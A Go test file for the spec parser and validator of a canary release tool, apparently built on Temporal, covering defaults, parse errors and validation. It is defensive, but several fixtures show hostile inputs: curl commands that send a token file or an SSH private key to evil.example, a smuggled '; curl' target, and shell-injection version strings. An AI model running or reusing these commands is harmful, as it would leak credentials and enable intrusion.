package spec

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const minimal = `
service: checkout
version: v2
target: checkout-staging
`

func TestMinimalSpecGetsSafeDefaults(t *testing.T) {
	r, err := Parse([]byte(minimal))
	require.NoError(t, err)
	d := r.WithDefaults()
	require.NoError(t, d.Validate())
	assert.Equal(t, "production", d.Environment)
	var percents []int
	for _, s := range d.Stages {
		percents = append(percents, s.Percent)
		assert.Equal(t, 15*time.Minute, s.Soak.D())
	}
	assert.Equal(t, []int{1, 5, 25, 50, 100}, percents)
	assert.Equal(t, 10*time.Second, d.Analysis.Interval.D())
	require.Len(t, d.Analysis.Checks, 2)
	assert.Equal(t, "error-rate", d.Analysis.Checks[0].Name)
	assert.Equal(t, 0.01, *d.Analysis.Checks[0].Max)
	assert.Equal(t, "p99-latency", d.Analysis.Checks[1].Name)
	assert.Equal(t, 0.5, *d.Analysis.Checks[1].Max)
	assert.Equal(t, DefaultMetricsSource, d.Analysis.Source)
	assert.Equal(t, 75*time.Minute, d.TotalSoak())
	assert.Empty(t, r.Stages, "WithDefaults must not change its receiver")
}

func TestJSONAndYAMLAreTheSameSchema(t *testing.T) {
	y, err := Parse([]byte(minimal))
	require.NoError(t, err)
	j, err := Parse([]byte(`{"service":"checkout","version":"v2","target":"checkout-staging"}`))
	require.NoError(t, err)
	assert.Equal(t, y, j)
}

func TestParseErrors(t *testing.T) {
	cases := []struct{ name, doc, want string }{
		{"empty", "  \n", "spec is empty"},
		{"unknown key", minimal + "stagez: []\n", `unknown key "stagez"`},
		{"nested unknown key", minimal + "analysis: {intervall: 1m}\n", `unknown key "intervall"`},
		{"wrong type", minimal + "stages: 5\n", "stages: want a list, got number"},
		{"bad duration", minimal + "stages: [{percent: 100, soak: 15}]\n", `want a duration string such as "15m"`},
		{"unparsable duration", minimal + "stages: [{percent: 100, soak: fifteen}]\n", `invalid duration "fifteen"`},
		{"not a mapping", "- a\n- b\n", "spec must be a mapping"},
		{"bad yaml", "service: [\n", "neither valid YAML nor JSON"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse([]byte(tc.doc))
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.want)
		})
	}
}

func valid() Release {
	r, err := Parse([]byte(minimal))
	if err != nil {
		panic(err)
	}
	return r.WithDefaults()
}

func TestValidate(t *testing.T) {
	cases := []struct {
		name   string
		change func(r *Release)
		want   []string
	}{
		{"missing fields are named", func(r *Release) { r.Service, r.Version, r.Target = "", "", "" },
			[]string{"service: required", "version: required", "target: required: the name of one of the worker configuration's targets"}},
		{"percent must increase", func(r *Release) {
			r.Stages = []Stage{{Percent: 10, Soak: DefaultSoak}, {Percent: 25, Soak: DefaultSoak}, {Percent: 25, Soak: DefaultSoak}, {Percent: 100, Soak: DefaultSoak}}
		}, []string{"stages[2].percent: must be greater than stages[1].percent (25)"}},
		{"percent range", func(r *Release) {
			r.Stages = []Stage{{Percent: 0, Soak: DefaultSoak}, {Percent: 101, Soak: DefaultSoak}}
		},
			[]string{"stages[0].percent: must be in (0, 100], got 0", "stages[1].percent: must be in (0, 100], got 101"}},
		{"must end at 100", func(r *Release) {
			r.Stages = []Stage{{Percent: 10, Soak: DefaultSoak}, {Percent: 50, Soak: DefaultSoak}}
		},
			[]string{"stages[1].percent: the last stage must be 100, got 50"}},
		{"positive soak and interval", func(r *Release) { r.Stages[0].Soak = -1; r.Analysis.Interval = 0 },
			[]string{"stages[0].soak: must be positive", "analysis.interval: must be positive"}},
		{"target is a name", func(r *Release) { r.Target = "./deploy.sh; curl evil" }, []string{`target: "./deploy.sh; curl evil" is not a provider name`}},
		{"names everywhere", func(r *Release) {
			r.Notifications = []string{"slack", "Slack", "slack"}
			r.Flags = &Flags{Names: []string{"f"}}
			r.Tag = &Tag{Repo: "checkout", Name: "{{.Version"}
			r.Prechecks = []Precheck{{Name: "a", Check: "x", Signoff: &Signoff{Role: "qa"}}}
		}, []string{`notifications[1]: "Slack" is not a provider name`, `notifications[2]: "slack" already named at notifications[0]`,
			"flags.provider: required", "tag.name: template does not parse", "prechecks[0]: give exactly one of"}},
		{"bad service name", func(r *Release) { r.Service = "Check Out" }, []string{`service: "Check Out" must be 1-63 lowercase letters`}},
		{"approval action", func(r *Release) { r.Stages[1].Approval = true; r.Stages[1].OnApprovalTimeout = "ignore" },
			[]string{`stages[1].onApprovalTimeout: must be "abort" or "proceed", got "ignore"`}},
		{"approval timeout needs approval", func(r *Release) { r.Stages[1].ApprovalTimeout = Duration(time.Hour) },
			[]string{"stages[1]: approvalTimeout, onApprovalTimeout, approvers and approvalRoles need approval: true"}},
		{"check needs threshold", func(r *Release) { r.Analysis.Checks = []Check{{Name: "x", Query: "up"}} },
			[]string{"analysis.checks[0]: needs a threshold: max, min or baseline"}},
		{"duplicate check", func(r *Release) { r.Analysis.Checks = append(r.Analysis.Checks, r.Analysis.Checks[0]) },
			[]string{`analysis.checks[2].name: "error-rate" already names analysis.checks[0]`}},
		{"baseline needs previous version", func(r *Release) {
			r.Analysis.Checks[0].Baseline = &Baseline{MaxRelativeIncrease: 0.2}
		}, []string{"analysis.checks[0].baseline: needs previousVersion"}},
		{"metrics source is a name", func(r *Release) { r.Analysis.Source = "http://evil:9090" },
			[]string{`analysis.source: "http://evil:9090" is not a provider name`}},
		{"limits", func(r *Release) { r.Analysis.FailureLimit = 0; r.Analysis.InconclusiveLimit = -1 },
			[]string{"analysis.failureLimit: must be at least 1", "analysis.inconclusiveLimit: must be at least 1"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := valid()
			tc.change(&r)
			err := r.Validate()
			var verr *ValidationError
			require.True(t, errors.As(err, &verr), "want a ValidationError, got %v", err)
			for _, w := range tc.want {
				assert.Contains(t, err.Error(), w)
			}
			assert.Len(t, verr.Problems, len(tc.want), "problems: %v", verr.Problems)
		})
	}
}

func TestWorkflowIDIsPerServiceAndEnvironment(t *testing.T) {
	assert.Equal(t, "release:checkout:production", WorkflowID("checkout", "production"))
	assert.NotEqual(t, WorkflowID("a-b", "c"), WorkflowID("a", "b-c"))
}

// FuzzParse: the parser never panics, and whatever it accepts survives defaults and validation without
// panicking and round-trips through JSON.
func FuzzParse(f *testing.F) {
	f.Add([]byte(minimal))
	f.Add([]byte(`{"service":"a","version":"1","target":"demo","stages":[{"percent":100,"soak":"1s"}]}`))
	f.Add([]byte("stages: [{percent: 50}, {percent: 100, approval: true, approvalTimeout: 1h}]"))
	f.Add([]byte("analysis: {checks: [{name: x, query: up, max: 1e309}]}"))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := Parse(data)
		if err != nil {
			return
		}
		d := r.WithDefaults()
		_ = d.Validate()
		js, err := jsonMarshal(d)
		if err != nil {
			return // e.g. ±Inf thresholds cannot be JSON; Validate reports them
		}
		back, err := Parse(js)
		require.NoError(t, err, "own JSON must parse: %s", js)
		assert.Equal(t, d.Service, back.Service)
		assert.Equal(t, len(d.Stages), len(back.Stages))
	})
}

// The SDK decodes a raw Temporal CLI input with encoding/json; a misspelt key must still be rejected.
func TestUnknownKeysAreCaughtOutsideParseToo(t *testing.T) {
	var r Release
	require.NoError(t, json.Unmarshal([]byte(`{"service":"checkout","version":"v2","target":"demo",
		"stages":[{"percent":100,"aproval":true}]}`), &r))
	err := r.WithDefaults().Validate()
	require.Error(t, err)
	assert.Contains(t, err.Error(), `spec: unknown key "aproval"`)

	require.NoError(t, json.Unmarshal([]byte(`{"service":"checkout","version":"v2","target":"demo","stages":"all"}`), &r))
	assert.ErrorContains(t, r.WithDefaults().Validate(), "stages: want a list, got string")

	require.NoError(t, json.Unmarshal([]byte(`{"service":"checkout","version":"v2","target":"demo"}`), &r))
	assert.NoError(t, r.WithDefaults().Validate(), "a clean decode leaves no problem behind")
}

// A spec cannot carry what a worker runs: the inline target of older specs (commands run by `sh -c` on
// every worker) and inline metrics settings (an address and the name of a worker secret to send there)
// are rejected with what to write instead, however the spec arrives.
func TestInlineProviderSettingsAreRejected(t *testing.T) {
	const attack = `{"service":"checkout","version":"v2",
		"target":{"type":"exec","exec":{"deploy":"curl -d @/etc/shepherd/token https://evil.example","traffic":"true","promote":"true","rollback":"true"}},
		"analysis":{"prometheus":{"address":"https://evil.example","bearerTokenEnv":"TEMPORAL_API_KEY"}}}`
	r, err := Parse([]byte(attack))
	require.NoError(t, err, "the legacy shape parses so that Validate can explain it")
	err = r.WithDefaults().Validate()
	require.Error(t, err)
	assert.Contains(t, err.Error(), "target: a spec no longer describes its target")
	assert.Contains(t, err.Error(), "analysis.prometheus: a spec no longer gives metrics addresses or credentials")
	assert.Empty(t, r.Target, "no part of the inline target survives decoding")

	var raw Release
	require.NoError(t, json.Unmarshal([]byte(attack), &raw))
	assert.ErrorContains(t, raw.WithDefaults().Validate(), "target: a spec no longer describes its target")

	// Only the workflow, replaying a release started by older code, accepts the legacy target.
	assert.NoError(t, raw.AcceptLegacy().WithDefaults().Validate())
}

// Secrets and endpoints of lifecycle providers cannot ride in a spec (and so in workflow history and the
// archived report) either: inline webhook URLs, flag provider headers, precheck URLs and commands, a
// repository path with push settings. Each is rejected; AcceptLegacy keeps the structure for replay.
func TestInlineLifecycleSettingsAreRejected(t *testing.T) {
	const old = `{"service":"checkout","version":"v2","target":"checkout-prod",
		"notifications":[{"type":"slack","url":"https://hooks.slack.com/services/T0/B0/secret"},"releases"],
		"flags":{"names":["f"],"provider":{"type":"http","url":"https://flags/{{.Flag}}","headers":{"Authorization":"Bearer s3cret"}}},
		"prechecks":[{"name":"a","http":{"url":"https://registry/{{.Version}}","headerEnv":{"Authorization":"TEMPORAL_API_KEY"}}},
		             {"name":"b","exec":{"command":"curl -d @$HOME/.ssh/id_rsa https://evil.example"}}],
		"tag":{"repo":"/srv/git/checkout","push":true,"remote":"https://evil.example/x.git"},
		"analysis":{"prometheus":{"address":"https://admin:hunter2@prometheus.internal"}}}`
	var r Release
	require.NoError(t, json.Unmarshal([]byte(old), &r))
	err := r.WithDefaults().Validate()
	require.Error(t, err)
	for _, want := range []string{
		"notifications[0]: a spec no longer gives webhook URLs",
		"flags.provider: a spec no longer configures its flag provider",
		"prechecks[0]: a spec no longer describes what a check runs (http)",
		"prechecks[1]: a spec no longer describes what a check runs (exec)",
		"tag: a spec no longer configures its repository",
	} {
		assert.Contains(t, err.Error(), want)
	}
	js, err := json.Marshal(r)
	require.NoError(t, err)
	for _, secret := range []string{"hooks.slack.com", "s3cret", "id_rsa", "TEMPORAL_API_KEY", "evil.example", "hunter2"} {
		assert.NotContains(t, string(js), secret, "decoded spec keeps %q", secret)
	}
	assert.Equal(t, []string{"", "releases"}, r.Notifications, "the structure is kept for replay")
	assert.NoError(t, r.AcceptLegacy().WithDefaults().Validate())
}

func TestUsesListsEveryNamedProvider(t *testing.T) {
	r, err := Parse([]byte(minimal + `
prechecks:
  - {name: artifact, check: artifact-exists}
  - {name: capacity, metric: {query: up, min: 1}}
  - {name: qa, signoff: {role: qa}}
flags: {names: [new-checkout], provider: flagd}
notifications: [releases-slack, events]
tag: {repo: checkout-git}
`))
	require.NoError(t, err)
	d := r.WithDefaults()
	require.NoError(t, d.Validate())
	assert.Equal(t, []Use{
		{KindTarget, "checkout-staging", "target"},
		{KindMetrics, "prometheus", "analysis.source"},
		{KindPrecheck, "artifact-exists", "prechecks[0].check"},
		{KindMetrics, "prometheus", "prechecks[1].metric.source"},
		{KindFlags, "flagd", "flags.provider"},
		{KindNotification, "releases-slack", "notifications[0]"},
		{KindNotification, "events", "notifications[1]"},
		{KindRepository, "checkout-git", "tag.repo"},
	}, d.Uses())
	d.Analysis = Analysis{Disabled: true, Interval: DefaultInterval, FailureLimit: 1, InconclusiveLimit: 1}
	for _, u := range d.Uses() {
		assert.NotEqual(t, "analysis.source", u.Path, "a disabled analysis names no source")
	}
}

// A spec that arrives in the workflow (decoded by the SDK from a start request the raw Temporal CLI may
// have sent) is held to the same size bound as a spec file.
func TestOversizedSpecIsRejectedHoweverItArrives(t *testing.T) {
	r, err := Parse([]byte(minimal))
	require.NoError(t, err)
	r.Description = strings.Repeat("x", MaxSpecBytes)
	b, err := json.Marshal(r)
	require.NoError(t, err)
	var got Release
	require.NoError(t, json.Unmarshal(b, &got))
	err = got.WithDefaults().Validate()
	require.Error(t, err)
	assert.Contains(t, err.Error(), "larger than the limit of 1048576 bytes")
}

func TestReadStopsAtTheLimit(t *testing.T) {
	_, err := Read(endless{})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "larger than the limit of 1048576 bytes")
	data, err := Read(strings.NewReader(minimal))
	require.NoError(t, err)
	assert.Equal(t, minimal, string(data))
}

type endless struct{}

func (endless) Read(p []byte) (int, error) { return len(p), nil }

// Validation (which the CLI, the starter and the workflow run) refuses template bombs before any worker
// renders them.
func TestValidateRefusesTemplateBombs(t *testing.T) {
	r, err := Parse([]byte(minimal))
	require.NoError(t, err)
	r.Analysis.Checks = []Check{{Name: "bomb", Query: `up{x="{{range 30000000}}x{{end}}"}`, Max: new(float64)}}
	err = r.WithDefaults().Validate()
	require.Error(t, err)
	assert.Contains(t, err.Error(), "analysis.checks[0].query: template does not parse")
	assert.Contains(t, err.Error(), "larger than the limit of 100000")
}

// Versions reach shell commands, URLs, queries and tag names: validation keeps them to a safe alphabet.
func TestVersionsAreValidatedToASafeAlphabet(t *testing.T) {
	for _, bad := range []string{
		`v2$(touch${IFS}/tmp/x)`,
		`v1"; touch /tmp/x; echo "`,
		"v1`id`",
		"v1;id",
		"v1 v2",
		"v1\nid",
		"../../etc",
		"-v2",
		strings.Repeat("v", 129),
	} {
		for _, field := range []string{"version", "previousVersion"} {
			r, err := Parse([]byte(minimal))
			require.NoError(t, err)
			if field == "version" {
				r.Version = bad
			} else {
				r.PreviousVersion = bad
			}
			err = r.WithDefaults().Validate()
			require.Error(t, err, "%s %q", field, bad)
			var verr *ValidationError
			require.ErrorAs(t, err, &verr)
			assert.Equal(t, field, verr.Problems[0].Path, "%q", bad)
			assert.Contains(t, verr.Problems[0].Message, "letters, digits", "%q", bad)
		}
	}
	for _, good := range []string{"v2", "2.4.0", "1.4.0-rc.1+build.7", "v2_hotfix", "3f9c2ab", strings.Repeat("v", 128)} {
		r, err := Parse([]byte(minimal))
		require.NoError(t, err)
		r.Version, r.PreviousVersion = good, "v0"
		assert.NoError(t, r.WithDefaults().Validate(), good)
	}
}
